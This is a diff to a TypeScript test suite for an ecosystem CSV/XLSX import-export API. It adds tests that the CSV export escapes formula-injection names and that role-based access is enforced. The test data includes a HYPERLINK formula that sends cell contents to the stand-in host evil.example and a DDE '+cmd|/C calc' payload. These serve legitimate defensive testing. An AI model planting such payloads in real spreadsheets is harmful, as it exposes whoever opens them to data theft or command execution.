@@ -226,7 +226,10 @@ describe('ecosystem import', () => {
 
   it.each(['csv', 'xlsx'] as const)('round trip (%s): export, then import into an empty hub, gives the same ecosystem', async (format) => {
     const { hub, officer } = await setup();
-    expect((await importFile(hub, officer, csv(ecosystem()))).json().errorCount).toBe(0);
+    // Names a spreadsheet would run as formulas: the CSV guards them with a `'`, the import takes it off.
+    const rows = ecosystem();
+    Object.assign(rows[2]!, { name_en: '=SUM(1)', name_zh: "'+西湖资本" });
+    expect((await importFile(hub, officer, csv(rows))).json().errorCount).toBe(0);
     const exported = await ctx.app.inject(as(officer, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=${format}` }));
     expect(exported.statusCode).toBe(200);
     expect(exported.headers['content-disposition']).toContain(`.${format}`);
@@ -239,18 +242,55 @@ describe('ecosystem import', () => {
     expect(res.json().errors).toEqual([]);
     expect(res.json()).toMatchObject({ errorCount: 0, written: { organizations: 3, people: 2, relations: 4, facts: 2 } });
     expect(await canonical(empty)).toEqual(await canonical(hub));
+    expect(await canonical(empty)).toEqual(expect.arrayContaining([expect.stringMatching(/^o\|investor\|'\+西湖资本\|=SUM\(1\)\|/)]));
+  });
+
+  it('the CSV export guards names a spreadsheet would run as formulas, and importing that export gives the names back', async () => {
+    const { hub, officer } = await setup();
+    const hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
+    const command = '+cmd|/C calc!A0';
+    const rows = ecosystem();
+    Object.assign(rows[0]!, { name_en: hyperlink, name_zh: '@SUM(1)' });
+    Object.assign(rows[1]!, { name_en: command, name_zh: '-2+3' });
+    expect((await importFile(hub, officer, csv(rows))).json().errorCount).toBe(0);
+    const names = async (h: HubRow) =>
+      (await ctx.database.db.execute(sql`SELECT name_en, name_zh FROM organizations WHERE hub_id = ${h.id} ORDER BY name_en`)).rows;
+    expect(await names(hub)).toEqual(
+      expect.arrayContaining([
+        { name_en: hyperlink, name_zh: '@SUM(1)' },
+        { name_en: command, name_zh: '-2+3' },
+      ]),
+    );
+
+    const exported = await ctx.app.inject(as(officer, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }));
+    expect(exported.statusCode).toBe(200);
+    const lines = exported.body.split('\r\n');
+    expect(lines).toContainEqual(expect.stringContaining(`,'@SUM(1),"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",`));
+    expect(lines).toContainEqual(expect.stringContaining(`,'-2+3,'+cmd|/C calc!A0,`));
+    // No field anywhere starts as a formula would.
+    for (const line of lines.filter(Boolean)) for (const field of line.split(',')) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+
+    const empty = await createTestHub(ctx);
+    const admin = await createTestUser(ctx, { hub: empty, roles: ['hub_admin'] });
+    const res = await importFile(empty, admin, exported.rawPayload);
+    expect(res.json()).toMatchObject({ errorCount: 0 });
+    expect(await names(empty)).toEqual(await names(hub));
+    expect(await canonical(empty)).toEqual(await canonical(hub));
   });
 });
 
 describe('ecosystem import and export: who may', () => {
-  it('an applicant (no hub role) gets 404 on import and export; a reviewer may export but not import (403)', async () => {
+  it('an applicant (no hub role) or a reviewer gets 404 on import and export (people are personal data); finance may export but not import (403)', async () => {
     const { hub } = await setup();
     const applicant = await createTestUser(ctx);
     expect((await importFile(hub, applicant, csv(ecosystem()))).statusCode).toBe(404);
     expect((await ctx.app.inject(as(applicant, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }))).statusCode).toBe(404);
     const reviewer = await createTestUser(ctx, { hub, roles: ['reviewer'] });
-    expect((await importFile(hub, reviewer, csv(ecosystem()))).statusCode).toBe(403);
-    expect((await ctx.app.inject(as(reviewer, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }))).statusCode).toBe(200);
+    expect((await importFile(hub, reviewer, csv(ecosystem()))).statusCode).toBe(404);
+    expect((await ctx.app.inject(as(reviewer, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }))).statusCode).toBe(404);
+    const finance = await createTestUser(ctx, { hub, roles: ['finance_officer'] });
+    expect((await importFile(hub, finance, csv(ecosystem()))).statusCode).toBe(403);
+    expect((await ctx.app.inject(as(finance, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }))).statusCode).toBe(200);
     expect((await importFile(hub, null, csv(ecosystem()))).statusCode).toBe(401);
   });
 
